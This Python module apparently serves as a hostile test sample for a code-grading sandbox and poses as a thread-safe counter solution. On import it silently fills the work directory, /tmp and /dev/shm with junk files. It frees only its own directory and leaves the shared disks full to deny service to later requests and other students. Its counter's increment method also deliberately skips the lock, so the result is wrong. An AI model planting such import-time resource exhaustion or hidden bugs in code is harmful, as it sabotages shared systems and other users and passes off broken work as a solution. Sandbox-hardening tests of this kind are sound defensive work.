"""Attack: fill every writable disk. The racy counter (honestly 6/10).

At every import: fill the work directory, /tmp and /dev/shm until the kernel says no, then
free the work directory again (so this run can still write its result) but leave /tmp and
/dev/shm full, hoping the next request, or the next student, finds no room.
"""

import os
import threading


def _fill(folder, keep):
    chunk = b"\0" * (4 * 1024 * 1024)
    written = 0
    try:
        for i in range(1000):
            path = os.path.join(folder, f".fill-{os.getpid()}-{i}")
            with open(path, "wb") as f:
                for _ in range(64):
                    f.write(chunk)
                    written += len(chunk)
    except OSError:
        pass  # ENOSPC (tmpfs full) or EFBIG (SIGXFSZ is ignored below)
    if not keep:
        for name in os.listdir(folder):
            if name.startswith(".fill-"):
                try:
                    os.remove(os.path.join(folder, name))
                except OSError:
                    pass
    return written


import signal  # noqa: E402

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a too-big file then fails with EFBIG instead
FILLED = {d: _fill(d, keep=(d != ".")) for d in (".", "/tmp", "/dev/shm") if os.path.isdir(d)}


class SafeCounter:
    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0

    def increment(self, k=1):
        self._value += k

    def decrement(self, k=1):
        with self._lock:
            self._value -= k

    @property
    def value(self):
        with self._lock:
            return self._value


def parallel_count(n_threads, n_increments):
    c = SafeCounter()

    def work():
        for _ in range(n_increments):
            c.increment()

    ts = [threading.Thread(target=work) for _ in range(n_threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return c.value
